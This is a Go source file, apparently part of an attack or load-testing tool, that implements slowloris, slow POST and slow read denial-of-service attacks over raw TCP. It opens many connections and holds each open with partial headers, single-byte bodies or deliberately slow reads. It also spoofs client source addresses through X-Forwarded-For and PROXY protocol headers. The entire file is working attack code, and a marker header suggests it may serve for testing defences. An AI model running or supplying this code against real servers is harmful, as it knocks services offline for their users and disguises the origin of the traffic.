package attack

import (
	"bufio"
	"context"
	"io"
	"math/rand/v2"
	"net"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// runGoSlow is the in-process slow-connection driver: it opens Connections
// raw TCP connections at slowConnRate per second and holds each until d
// ends:
//   - slowloris: a request line and headers, then one more header line
//     every slowInterval, never the blank line that ends the header block;
//   - slow_post: a complete header block announcing slowContentLength body
//     bytes, then one body byte every slowInterval;
//   - slow_read: a complete GET over a connection with a small receive
//     buffer, then 32 bytes read every slowInterval.
//
// The source travels in X-Forwarded-For or a PROXY header per connection.
// Sent and Connections count connections attempted and opened; Errors the
// connections the target closed or refused; Statuses the first response
// status each connection got.
func runGoSlow(ctx context.Context, j *job, d time.Duration) (Result, error) {
	s := j.spec
	runCtx, cancel := context.WithTimeout(ctx, d)
	defer cancel()
	interval := slowInterval(d)
	p := &pacer{interval: time.Duration(float64(time.Second) / float64(slowConnRate(s))), next: time.Now()}
	var sent, conns, errs atomic.Uint64
	var mu sync.Mutex
	statuses := make(map[int]uint64)
	var wg sync.WaitGroup
	for i := 0; i < s.Connections && p.wait(runCtx); i++ {
		sent.Add(1)
		wg.Go(func() {
			code, opened, closed := slowConn(runCtx, j, i, interval)
			if opened {
				conns.Add(1)
			}
			if closed {
				errs.Add(1)
			}
			if code > 0 {
				mu.Lock()
				statuses[code]++
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	res := Result{Sent: sent.Load(), Connections: conns.Load(), Errors: errs.Load()}
	if len(statuses) > 0 {
		res.Statuses = statuses
	}
	return res, nil
}

// slowConn runs one slow connection until ctx ends. It reports the first
// response status seen (0: none), whether the connection opened, and
// whether the target closed or refused it before ctx ended.
func slowConn(ctx context.Context, j *job, i int, interval time.Duration) (code int, opened, closed bool) {
	s := j.spec
	var dialer net.Dialer
	conn, err := dialer.DialContext(ctx, "tcp", j.addr)
	if err != nil {
		return 0, false, ctx.Err() == nil
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	if s.Kind == KindSlowRead {
		if tc, ok := conn.(*net.TCPConn); ok {
			_ = tc.SetReadBuffer(1024)
		}
	}
	var src string
	if n := len(j.sources); n > 0 {
		if j.target.ProxyProtocol {
			port := 0
			if a, ok := conn.LocalAddr().(*net.TCPAddr); ok {
				port = a.Port
			}
			if writeProxyHeader(conn, conn, j.sources[i%n], port) != nil {
				return 0, true, ctx.Err() == nil
			}
		} else {
			src = j.xff[i%n]
		}
	}
	rng := rand.New(rand.NewPCG(rand.Uint64(), uint64(i)))
	var b strings.Builder
	b.WriteString(s.Method + " " + s.Paths[i%len(s.Paths)] + " HTTP/1.1\r\n")
	b.WriteString("Host: " + j.target.URL.Host + "\r\n")
	b.WriteString("User-Agent: " + userAgents[i%len(userAgents)] + "\r\n")
	b.WriteString(ClassHeader + ": " + j.marker + "\r\n")
	if src != "" {
		b.WriteString("X-Forwarded-For: " + src + "\r\n")
	}
	switch s.Kind {
	case KindSlowPost:
		b.WriteString("Content-Type: application/x-www-form-urlencoded\r\n")
		b.WriteString("Content-Length: " + strconv.Itoa(slowContentLength) + "\r\n\r\n")
	case KindSlowRead:
		b.WriteString("\r\n")
	}
	if _, err := io.WriteString(conn, b.String()); err != nil {
		return 0, true, ctx.Err() == nil
	}

	// The target's answer (a status, or a close) ends the attack on this
	// connection, except for slow_read, which reads it slowly.
	answered := make(chan int, 1)
	if s.Kind != KindSlowRead {
		go func() {
			c, _ := readStatus(bufio.NewReaderSize(conn, 512))
			answered <- c
		}()
	}
	t := time.NewTicker(interval)
	defer t.Stop()
	br := bufio.NewReaderSize(conn, 32)
	for first := true; ; first = false {
		if s.Kind == KindSlowRead {
			buf := make([]byte, 32)
			n, err := io.ReadFull(br, buf)
			if first {
				code, _ = parseStatusLine(buf[:n])
			}
			if err != nil {
				return code, true, ctx.Err() == nil
			}
		}
		select {
		case <-ctx.Done():
			return code, true, false
		case c := <-answered:
			return c, true, ctx.Err() == nil
		case <-t.C:
		}
		var more string
		switch s.Kind {
		case KindSlowloris:
			more = "X-" + strconv.FormatUint(rng.Uint64()%1e6, 36) + ": " + strconv.FormatUint(rng.Uint64()%1e9, 36) + "\r\n"
		case KindSlowPost:
			more = "a"
		default:
			continue
		}
		if _, err := io.WriteString(conn, more); err != nil {
			return code, true, ctx.Err() == nil
		}
	}
}

// readStatus reads the first response line and returns its status code
// (0 when the connection closed first).
func readStatus(br *bufio.Reader) (int, error) {
	line, err := br.ReadSlice('\n')
	if code, ok := parseStatusLine(line); ok {
		return code, nil
	}
	return 0, err
}
